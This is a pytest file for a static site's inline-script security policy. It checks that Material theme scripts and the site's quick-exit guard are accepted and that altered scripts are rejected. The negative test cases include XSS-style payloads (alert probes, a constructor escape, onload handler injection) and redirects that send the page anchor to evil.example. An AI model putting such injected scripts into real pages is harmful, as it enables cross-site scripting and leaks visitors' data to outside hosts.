"""hooks/security_policy.py recognises inline scripts by what they reach: Material's own, from its templates.

Fast checks without a build: the scripts in the installed Material's templates are known (so an
upgrade that changes what they do fails here, by name), rewritten versions of them are still known,
and scripts that reach anything more are not, however they hide it.
"""

import re
from pathlib import Path

import material
import pytest

from security_policy import unknown_config, unknown_script

MATERIAL_SCRIPTS = Path(material.__file__).parent / "templates" / "partials" / "javascripts"
# The templates whose inline scripts every page of this site gets. Material's other inline scripts
# (announce.html, consent.html, outdated.html, content tabs linking) belong to features this site does
# not switch on; switching one on fails the build, naming the script, until it is added to the policy.
USED_TEMPLATES = ["base.html", "content.html", "palette.html"]


def material_inline_scripts() -> dict[str, str]:
    """The unconditional inline scripts of the used templates, with template expressions filled in."""
    scripts = {}
    for name in USED_TEMPLATES:
        template = (MATERIAL_SCRIPTS / name).read_text(encoding="utf-8")
        unconditional = re.sub(r"\{% if .*?\{% endif %\}", "", template, flags=re.S)
        for number, script in enumerate(re.findall(r"<script>(.*?)</script>", unconditional, re.S)):
            # The scope's base is a template expression: the built pages have "../..", "." or "/mensenhandel/".
            scripts[f"{name.removesuffix('.html')}-{number}"] = re.sub(r"\{\{.*?\}\}", "../..", script)
    return scripts


def test_each_used_template_has_one_unconditional_inline_script():
    assert sorted(material_inline_scripts()) == ["base-0", "content-0", "palette-0"]


@pytest.mark.parametrize("name", sorted(material_inline_scripts()))
def test_each_of_materials_inline_scripts_is_known(name: str):
    assert unknown_script(material_inline_scripts()[name]) is None


def test_materials_scripts_for_features_the_site_does_not_use_are_not_known():
    outdated = re.search(r"<script>(.*?)</script>", (MATERIAL_SCRIPTS / "outdated.html").read_text(encoding="utf-8"))[1]
    assert "reads sessionStorage" in unknown_script(outdated.replace("{{ base_url }}", ".."))


@pytest.mark.parametrize(
    "script",
    [
        "var target = document.getElementById(location.hash.slice(1));\n"
        "if (target && target.name) {\n  target.checked = target.name.startsWith('__tabbed_');\n}",
        'const anchor = window.location.hash.substr(1); location.href = "../nieuw/" + (anchor ? "#" + anchor : "");',
    ],
    ids=["tabs-unminified", "redirect-const"],
)
def test_the_same_statements_written_otherwise_are_known(script: str):
    assert unknown_script(script) is None


@pytest.mark.parametrize(
    ("script", "reason"),
    [
        ("alert(1)", "reads alert"),
        ("(alert => 0); alert(1)", "reads alert"),
        ("{ let alert = 1 } alert(1)", "reads alert"),
        ('window["al" + "ert"](1)', "computed property"),
        (
            "var target = document.getElementById(location.hash.slice(1)); target.constructor.constructor('x')()",
            ".constructor",
        ),
        ('__md_scope=new URL("https://evil.example/",location),__md_get=e=>1,__md_set=e=>1', "https://evil.example/"),
        ('var anchor=window.location.hash.substr(1);location.href="//evil.example/"+anchor', "//evil.example/"),
        ('var palette=__md_get("__palette");document.body.setAttribute("onload","x")', "'onload'"),
        ("var target = `${location}`", "template substitution"),
        ("var x = ;", "not valid JavaScript"),
    ],
    ids=[
        "global",
        "shadowed-by-a-parameter",
        "shadowed-in-a-block",
        "computed-property",
        "constructor",
        "scope-to-another-host",
        "redirect-to-another-host",
        "palette-sets-a-handler",
        "template",
        "syntax",
    ],
)
def test_a_script_that_reaches_more_is_unknown_and_says_what(script: str, reason: str):
    assert reason in (unknown_script(script) or "")


def test_materials_config_block_is_known_only_with_its_keys_and_addresses_on_this_site():
    config = '{"base": "..", "features": [], "search": "../assets/javascripts/workers/search.js", "translations": {}}'
    assert unknown_config(config) is None
    assert "not an address on this site" in unknown_config(config.replace('"../assets', '"https://evil.example/assets'))
    assert "keys other than" in unknown_config(config.replace('"features"', '"worker"'))


QUICK_EXIT_GUARD = Path(__file__).parents[1] / "overrides" / "partials" / "snel-weg-guard.html"


def test_the_quick_exits_guard_is_known_and_a_guard_that_leaves_elsewhere_is_not():
    guard = re.search(r"<script>(.*?)</script>", QUICK_EXIT_GUARD.read_text(encoding="utf-8"), re.S)[1]
    assert unknown_script(guard) is None
    assert "'https://evil.example/'" in unknown_script(
        guard.replace("leaveFor(address);\n  }", 'leaveFor("https://evil.example/");\n  }')
    )
    assert "reads fetch" in unknown_script(
        guard.replace("var address = neutralSite();", "var address = fetch(neutralSite());")
    )
